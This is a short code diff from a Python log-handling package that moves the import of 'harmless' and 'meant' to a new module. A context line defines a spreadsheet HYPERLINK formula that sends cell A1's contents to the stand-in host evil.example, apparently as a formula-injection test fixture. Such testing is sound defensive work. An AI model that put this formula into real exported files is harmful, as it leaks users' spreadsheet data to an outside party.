@@ -15,7 +15,7 @@ import semmap_log as sl
 from semmap_log.interop.exporting.log_files import export
 from semmap_log.interop.formats.files import csv_blocks
 from semmap_log.interop.formats.files.door_csv import read_door_csv
-from semmap_log.interop.formats.parsing.csv_text import harmless, meant
+from semmap_log.interop.formats.parsing.text_column import harmless, meant
 from semmap_log.interop.importing.importing import import_file
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
